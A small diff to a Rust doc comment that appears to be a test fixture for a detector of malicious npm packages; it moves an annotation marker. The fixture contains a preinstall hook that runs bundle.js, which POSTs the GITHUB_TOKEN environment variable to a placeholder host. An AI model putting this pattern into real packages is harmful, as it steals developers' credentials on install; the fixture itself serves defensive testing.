@@ -23,8 +23,8 @@
 //! ```
 //!
 //! ```package
-//! == package.json
-//! {"name": "x", "version": "1.0.0", "scripts": {"preinstall": "npm install -g bun && bun run bundle.js"}} //~ here
+//! == package.json //~ 1
+//! {"name": "x", "version": "1.0.0", "scripts": {"preinstall": "npm install -g bun && bun run bundle.js"}}
 //! == bundle.js
 //! fetch("https://drop.invalid/", { method: "POST", body: process.env.GITHUB_TOKEN });
 //! ```
